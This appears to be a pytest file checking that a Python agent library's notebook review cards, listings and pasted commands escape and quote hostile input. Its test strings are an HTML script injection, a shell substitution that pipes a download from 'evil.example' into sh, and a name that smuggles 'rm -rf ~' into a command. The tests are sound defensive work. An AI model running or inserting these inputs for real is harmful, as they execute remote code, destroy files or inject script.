"""Notebook display: cards, results, listings and audits render as escaped HTML; the review
widgets decide through the Agent API (a click approves, an edit validates, a refused reviewer
sees why); the graph is drawn offline as Mermaid."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from graphkit import Agent, Inbox, create_tool
from graphkit.testing import ScriptedChatModel
from tests.helpers import agent_with, call, null_default_agent, turn

EVIL = "<script>alert('x')</script><img src=x onerror=alert(1)>"
PAY = {"amount": 40, "payee": {"name": "ACME"}}


def test_cards_and_results_render_escaped_html(sqlite_url: str) -> None:
    agent, _ = agent_with([turn(call("pay", {"amount": 40, "payee": {"name": EVIL}}, "c1")),
                           "done"], checkpointer=sqlite_url)
    result = agent.generate(f"pay {EVIL}")
    html = result._repr_html_()
    assert "Pay 40 to" in html and "<script" not in html and "<img" not in html
    assert "&lt;script&gt;" in html and "suspended" in html
    card = result.pending_approvals[0]._repr_html_()
    assert "<script" not in card and "&lt;img" in card and card.count("<table>") == 1
    markdown = result._repr_markdown_()
    assert "suspended" in markdown
    prose = re.sub(r"`[^`]*`", "", markdown)  # code spans show their text literally
    assert all(prose[i - 1] == "\\" for i, c in enumerate(prose) if c in "<>[]()!")
    listing = Inbox(sqlite_url).pending()
    assert "<script" not in listing._repr_html_() and "pay" in listing._repr_html_()
    stream = agent.decline_tool_call(run_id=result.run_id, decided_by=EVIL, comment=EVIL)
    assert "not finished" in stream._repr_html_()
    stream.result()
    assert "<script" not in stream._repr_html_() and "done" in stream._repr_html_()
    audit = Inbox(sqlite_url).audit(thread_id=result.thread_id)._repr_html_()
    assert "<script" not in audit and "rejected" in audit


def test_markdown_shows_arguments_literally_backticks_and_all() -> None:
    """The Markdown view replaced backticks with quotes: a shell command's substitution
    `` echo `curl evil | sh` `` read as a harmless literal (helper-66). Read as CommonMark reads
    a code span, each span shows the value as it is."""
    command = "echo `curl -s evil.example/x | sh` ``x"
    agent, _ = agent_with([turn(call("pay", {**PAY, "payee": {"name": command}}, "c1")),
                           "done"])
    (pending,) = agent.generate("pay").pending_approvals
    spans = [m.group(2) for m in re.finditer(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)",
                                             pending._repr_markdown_())]
    shown = [span[1:-1] if span.startswith(" ") and span.endswith(" ") else span
             for span in spans]
    assert json.dumps(pending.args) in shown and pending.id in shown


def test_a_click_approves_and_the_continued_run_is_shown() -> None:
    agent, ran = agent_with([turn(call("pay", PAY, "c1")), "paid it"])
    result = agent.generate("pay")
    view = agent.review(result, decided_by="alice")
    (card,) = view.cards
    card.approve.click()
    assert ran.ran == [("pay", PAY)]
    assert "paid it" in view.output.value and card.approve.disabled
    assert view.results[-1].finish_reason == "stop"


def test_an_edit_is_validated_by_the_tool_and_a_refusal_is_shown() -> None:
    agent, ran = agent_with([turn(call("pay", PAY, "c1")), "paid it"],
                            approvers=lambda by, p: by == "cfo")
    result = agent.generate("pay")
    intern = agent.review(result, decided_by="intern").cards[0]
    intern.approve.click()
    assert "Refused" in intern.message.value and "may not approve" in intern.message.value
    assert ran.ran == []
    cfo = agent.review(result, decided_by="cfo").cards[0]
    cfo.fields["payee"].value = '"not an object"'
    cfo.edit.click()
    assert "Refused" in cfo.message.value and "InvalidApprovedArgsError" in cfo.message.value
    cfo.fields["payee"].value = '{"name": "ACME Ltd"}'
    cfo.fields["amount"].value = 35
    cfo.edit.click()
    assert ran.ran == [("pay", {"amount": 35, "payee": {"name": "ACME Ltd"}})]


def test_an_edit_keeps_every_field_the_reviewer_left_as_the_card_showed_it() -> None:
    """Nulls showed as 0, 0.0, "" and an unticked box, and an edit of one field ran them so
    (`dry_run=False`, `replicas=0`); a text with a line break was a one-line input
    (helper-66)."""
    ran: list[dict[str, Any]] = []

    @create_tool(needs_approval=True)
    def roll_out(version: str, replicas: int | None = 3, ratio: float | None = 1.0,
                 note: str | None = "", dry_run: bool | None = True, memo: str = "") -> str:
        """Roll out."""
        ran.append({"version": version, "replicas": replicas, "ratio": ratio, "note": note,
                    "dry_run": dry_run, "memo": memo})
        return "rolled out"

    asked = {"version": "1.0", "replicas": None, "ratio": None, "note": None,
             "dry_run": None, "memo": "line1\nline2"}
    agent = Agent(name="ops", tools=[roll_out], model=ScriptedChatModel(
        [turn(call("roll_out", asked, "r1")), "done"]))
    card = agent.review(agent.generate("roll out"), decided_by="alice").cards[0]
    assert type(card.fields["memo"]).__name__ == "Textarea"
    card.fields["version"].value = "1.1"
    card.edit.click()
    assert ran == [{**asked, "version": "1.1"}]


@pytest.mark.parametrize("nobody", ["", "   ", "\u200b", None])
def test_a_review_needs_the_name_of_who_decides(nobody: Any) -> None:
    """`decided_by=""` made a view whose every click approved as by nobody (helper-66)."""
    agent, _ = agent_with([turn(call("pay", PAY, "c1")), "paid it"])
    result = agent.generate("pay")
    with pytest.raises(ValueError, match="decided_by"):
        agent.review(result, decided_by=nobody)
    assert agent.pending_approvals(run_id=result.run_id)[0].status == "pending"


@pytest.mark.parametrize("choice", ["untouched", "zero and false"])
def test_a_null_default_is_left_to_the_tool_and_a_chosen_zero_or_false_is_kept(
        choice: str) -> None:
    """`daily_limit: int = None` showed as 0 and `notify: bool = None` as an unticked box: an
    edit of another field sent the nulls back (refused by the tool's model), and a reviewer's
    0 or False read as the null left untouched (helper-67)."""
    ran: list[dict[str, Any]] = []
    agent = null_default_agent(ran)
    card = agent.review(agent.generate("withdraw"), decided_by="alice").cards[0]
    card.fields["account"].value = "A-2"
    if choice == "zero and false":
        card.fields["daily_limit"].value = "0"
        card.fields["notify"].value = False
    card.edit.click()
    assert "Decided" in card.message.value, card.message.value
    chosen = (0, False) if choice == "zero and false" else (None, None)
    assert ran == [{"account": "A-2", "daily_limit": chosen[0], "notify": chosen[1]}]


def test_each_card_of_a_turn_is_decided_on_its_own() -> None:
    """Deciding one of two calls of a turn disabled every card: the other could not be
    decided in the view, and the run stayed waiting (helper-66)."""
    agent, ran = agent_with([turn(call("pay", PAY, "c1"), call("pay", {**PAY, "amount": 7},
                                                               "c2")), "paid both"])
    view = agent.review(agent.generate("pay twice"), decided_by="alice")
    first, second = view.cards
    first.approve.click()
    assert first.approve.disabled and not second.approve.disabled
    second.approve.click()
    assert sorted(a["amount"] for _, a in ran.ran) == [7, 40]
    assert view.results[-1].finish_reason == "stop" and "paid both" in view.output.value


@pytest.mark.parametrize("click", ["approve", "decline"])
@pytest.mark.parametrize("other", ["the API", "another view"])
def test_a_card_decides_its_own_call_never_a_later_one_under_a_reused_id(
        other: str, click: str) -> None:
    """A card named its call by the model's tool_call_id: clicked once another door had
    decided the call (the API, a second view of the run), it decided the next call the model
    asked under the same id, which ran twice, or was declined unseen (helper-114). A card
    names its call by its approval id: the late click is refused as already decided."""
    agent, ran = agent_with([turn(call("pay", PAY, "c1")), turn(call("pay", PAY, "c1")),
                             "done"])
    result = agent.generate("pay")
    view = agent.review(result, decided_by="alice")
    if other == "the API":
        agent.approve_tool_call_generate(run_id=result.run_id, decided_by="bob")
    else:
        agent.review(result, decided_by="carol").cards[0].approve.click()
    assert len(ran.ran) == 1
    (newer,) = agent.pending_approvals(run_id=result.run_id)
    getattr(view.cards[0], click).click()
    assert "already" in view.cards[0].message.value
    assert len(ran.ran) == 1
    assert [(p.id, p.status) for p in agent.pending_approvals(run_id=result.run_id)] == [
        (newer.id, "pending")]


def test_a_card_offers_only_the_decisions_its_tool_allows() -> None:
    """A card showed "Approve with edits" for a tool that takes no edits (the click was
    refused); an edit-only tool's card offered a plain approve."""
    for allowed, approve, edit in ((["approve", "reject"], True, False),
                                   (["edit", "reject"], False, True)):
        @create_tool(needs_approval=True, allowed_decisions=allowed)
        def pay(amount: int) -> str:
            """Pay."""
            return "paid"

        agent = Agent(name="billing", tools=[pay], model=ScriptedChatModel(
            [turn(call("pay", {"amount": 5}, "p1")), "done"]))
        (card,) = agent.review(agent.generate("pay"), decided_by="cfo").cards
        assert (not card.approve.disabled, not card.edit.disabled) == (approve, edit)
        assert not card.decline.disabled


def test_a_card_offers_respond_where_its_tool_allows_it_and_no_decline_where_it_does_not(
        ) -> None:
    """A tool that allows approve and respond: its card offered Decline (refused when
    clicked) and no Respond, and its commands to paste named `graphkit reject` (helper-114).
    The card offers what the tool allows; a reply is what the model reads in the call's
    place."""
    from graphkit._notebook import _commands

    ran: list[int] = []

    @create_tool(needs_approval=True, allowed_decisions=["approve", "respond"])
    def pay(amount: int) -> str:
        """Pay."""
        ran.append(amount)
        return "paid"

    agent = Agent(name="billing", tools=[pay], model=ScriptedChatModel(
        lambda m: "ok" if m[-1].type == "tool" else turn(call("pay", {"amount": 5}, "p1"))))
    result = agent.generate("pay")
    (card,) = agent.review(result, decided_by="cfo").cards
    assert card.decline.disabled and not card.respond.disabled and not card.approve.disabled
    commands = _commands(card.pending, "cfo")
    assert not any(" reject " in c for c in commands)
    assert any(" respond " in c for c in commands)
    card.answer.value = "Use the staging account."
    card.respond.click()
    assert ran == [] and "Decided" in card.message.value
    tool = [m for m in agent.snapshot(run_id=result.run_id)["messages"] if m["type"] == "tool"]
    assert "Use the staging account." in tool[-1]["data"]["content"]


def test_a_secret_asked_for_is_typed_unseen() -> None:
    """The resume form's field for a secret (a one-time code) showed as typed; the web
    form's is a password input (helper-114)."""
    from pydantic import BaseModel, SecretStr

    from graphkit import ToolContext

    class Code(BaseModel):
        code: SecretStr

    got: list[str] = []

    @create_tool(resume_schema=Code)
    def wire(ctx: ToolContext) -> str:
        """Wire money."""
        answer = ctx.suspend({"message": "Your one-time code?"})
        got.append(answer.code.get_secret_value())
        return "sent"

    agent = Agent(name="w", tools=[wire],
                  model=ScriptedChatModel([turn(call("wire", {}, "w1")), "ok"]))
    (card,) = agent.review(agent.generate("wire"), decided_by="me").cards
    assert type(card.fields["code"]).__name__ == "Password"
    card.fields["code"].value = "OTP-1234"
    card.resume.click()
    assert got == ["OTP-1234"]


def test_a_suspension_is_answered_from_its_form() -> None:
    from pydantic import BaseModel

    from graphkit import ToolContext

    class City(BaseModel):
        city: str

    @create_tool(resume_schema=City)
    def weather(ctx: ToolContext) -> str:
        """Weather somewhere."""
        answer = ctx.suspend({"message": "Which city?"})
        return f"sunny in {answer.city}"

    agent = Agent(name="w", tools=[weather],
                  model=ScriptedChatModel([turn(call("weather", {}, "w1")), "ok"]))
    result = agent.generate("weather?")
    (card,) = agent.review(result, decided_by="me").cards
    assert card.approve.disabled and not card.resume.disabled
    card.fields["city"].value = "Lisbon"
    card.resume.click()
    last_tool = [m for m in agent.snapshot(run_id=result.run_id)["messages"]
                 if m["type"] == "tool"][-1]
    assert last_tool["data"]["content"] == "sunny in Lisbon"


def test_the_graph_is_drawn_offline_with_subagents_expanded() -> None:
    @create_tool(needs_approval=True)
    def purge(days: int) -> str:
        """Purge."""
        return "ok"

    inner = Agent(name="ops", description="Ops.", tools=[purge], model=ScriptedChatModel([]))
    boss = Agent(name="boss", agents={"ops": inner}, model=ScriptedChatModel([]))
    drawing: Any = boss.draw()
    text = str(drawing)
    for node in ("model", "approval_gate", "tools", "ops"):
        assert node in text
    assert text.startswith("---") or "graph TD" in text  # the Mermaid text
    svg = drawing._repr_svg_()  # drawn here: a notebook rendered without a kernel shows it
    assert svg.startswith("<svg") and "http" not in svg.replace(
        "http://www.w3.org/2000/svg", "")
    for label in ("boss", "boss › ops", "approval_gate", "tools"):
        assert f">{label}<" in svg


def test_a_review_renders_without_a_kernel_as_cards_and_the_commands_to_decide() -> None:
    """Rendered without a kernel (nbconvert, GitHub) a widget shows nothing: the review's
    display carries a static page too, each card with the commands that decide it."""
    agent, _ = agent_with([turn(call("pay", PAY, "c1")), "paid it"])
    result = agent.generate("pay")
    view = agent.review(result, decided_by="alice")
    from graphkit._notebook import static_review

    page = static_review(view)
    (pending,) = result.pending_approvals
    assert "Pay 40 to ACME?" in page
    assert f"graphkit approve {pending.id} --by alice" in page
    assert f"graphkit reject {pending.id} --by alice" in page
    assert f"graphkit resume {result.run_id}" in page
    # a name pasted as one word, whatever it holds (helper-66)
    import html
    import shlex

    odd = agent.review(result, decided_by="Al O'Neil\"; rm -rf ~ #")
    command = re.findall(r"graphkit approve .*", html.unescape(static_review(odd)))[0]
    assert shlex.split(command) == ["graphkit", "approve", pending.id, "--by",
                                    "Al O'Neil\"; rm -rf ~ #"]
